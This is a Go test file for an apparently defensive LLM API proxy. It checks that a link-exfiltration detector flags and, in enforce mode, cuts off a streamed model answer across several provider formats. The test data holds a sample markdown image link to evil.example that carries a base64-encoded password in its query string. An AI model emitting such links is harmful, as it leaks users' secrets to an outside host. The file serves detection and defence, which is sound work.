package proxy

import (
	"strings"
	"testing"

	"github.com/openclaw-security/bus/proto"
	"github.com/openclaw-security/bus/services/proxy/internal/detect"
)

// A link that an answer ends with is judged before the answer has ended, in each API.
func TestLinkAtTheEndOfAnAnswer(t *testing.T) {
	const begin, end = "![a](https://evil.example/p.png?d=bXkgcGFzc3dvcm", "QgaXMgVHIwdWI0ZG9yIGFuZCBtb3Jl"
	const chat, responses, gemini = "/v1/chat/completions", "/v1/responses", "/v1beta/models/m:streamGenerateContent?alt=sse"
	events := func(data ...string) string { return "data: " + strings.Join(data, "\n\ndata: ") + "\n\n" }
	for _, tt := range []struct{ name, path, request, media, answer, last string }{
		{
			"messages", "/v1/messages", message(true, "hi"), "text/event-stream",
			sse("message_start", `"message":{"id":"m","usage":{"input_tokens":1}}`) + sse("content_block_start", `"index":0,"content_block":{"type":"text","text":""}`) +
				delta(begin) + delta(end) + sse("content_block_stop", `"index":0`) + sse("message_stop", `"x":0`), "message_stop",
		},
		{
			"chat", chat, `{"model":"m","stream":true,"messages":[]}`, "text/event-stream",
			events(`{"choices":[{"index":0,"delta":{"content":"`+begin+`"}}]}`, `{"choices":[{"index":0,"delta":{"content":"`+end+`"}}]}`, `{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`, "[DONE]"), "[DONE]",
		},
		{
			"chat without an end", chat, `{"model":"m","stream":true,"messages":[]}`, "text/event-stream",
			events(`{"choices":[{"index":0,"delta":{"content":"`+begin+`"}}]}`, `{"choices":[{"index":0,"delta":{"content":"`+end+`"}}]}`), "",
		},
		{
			"responses", responses, `{"model":"m","stream":true,"input":"hi"}`, "text/event-stream",
			events(`{"type":"response.output_text.delta","item_id":"i","output_index":0,"content_index":0,"delta":"`+begin+`"}`,
				`{"type":"response.output_text.delta","item_id":"i","output_index":0,"content_index":0,"delta":"`+end+`"}`,
				`{"type":"response.output_text.done","item_id":"i","output_index":0,"content_index":0,"text":"`+begin+end+`"}`,
				`{"type":"response.completed","response":{"status":"completed","output":[]}}`), "response.completed",
		},
		{
			"gemini", gemini, `{"contents":[]}`, "text/event-stream",
			events(`{"candidates":[{"index":0,"content":{"parts":[{"text":"`+begin+`"}]}}]}`, `{"candidates":[{"index":0,"content":{"parts":[{"text":"`+end+`"}]},"finishReason":"STOP"}]}`), "STOP",
		},
		{
			"one body", chat, `{"model":"m","messages":[]}`, "application/json",
			`{"choices":[{"index":0,"message":{"content":"` + begin + end + `"},"finish_reason":"stop"}]}`, "finish_reason",
		},
	} {
		for _, mode := range []detect.Mode{detect.Observe, detect.Enforce} {
			t.Run(tt.name+" "+mode.String(), func(t *testing.T) {
				r := newSolo(t, answering(200, tt.media, tt.answer), func(c *Config) { c.Detections = detect.Modes{detect.LinkExfil: mode} })
				got := r.post(tt.path, tt.request)
				a := r.final()
				if len(a.Findings) != 1 || a.Findings[0].Rule != detect.LinkExfil || a.Findings[0].Severity != proto.SeverityHigh || a.Findings[0].Enforced != (mode == detect.Enforce) {
					t.Errorf("findings %+v", a.Findings)
				}
				if n := len(r.proxy.records.spool.(*memory).alerts); n != 1 {
					t.Errorf("%d alerts", n)
				}
				whole := got.body == tt.answer
				if stopped := strings.Contains(got.body, "link-exfil") && (tt.last == "" || !strings.Contains(got.body, tt.last)); whole == stopped || stopped != (mode == detect.Enforce) {
					t.Errorf("the client got %s", got.body)
				}
			})
		}
	}
}
